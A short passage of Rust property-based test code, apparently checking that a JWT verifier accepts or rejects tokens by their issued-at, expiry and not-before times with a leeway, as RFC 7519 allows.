        let _ = verdict_at(&keys, kind, &token(iat, exp, nbf), now);
        // Around now, it is what RFC 7519 says with the leeway.
        let good = (-60..160).contains(&near);
        let token = token(NOW, NOW + 100, 0);
        prop_assert_eq!(verdict_at(&keys, kind, &token, NOW + near).is_ok(), good);
    }
}
